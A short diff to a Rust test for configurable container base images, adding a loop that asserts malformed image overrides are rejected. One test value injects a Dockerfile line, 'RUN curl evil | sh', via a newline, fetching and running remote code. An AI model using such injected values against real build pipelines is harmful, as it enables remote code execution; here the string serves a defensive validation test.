@@ -292,6 +292,15 @@ fn base_images_are_configurable() {
             .contains("FROM registry.local/busybox:1.36")
     );
     assert!(BaseImages::default().with_overrides(["nope=x"]).is_err());
+    // Whoever gives the image (a flag, a stored setting), it cannot add a line.
+    for bad in ["busybox\nRUN curl evil | sh", "busybox AS x", "", "Busybox", "a#b"] {
+        assert!(
+            BaseImages::default()
+                .with_overrides([format!("static={bad}").as_str()])
+                .is_err(),
+            "{bad:?}"
+        );
+    }
 }
 
 fn rules_of(dir: &Path) -> Vec<String> {
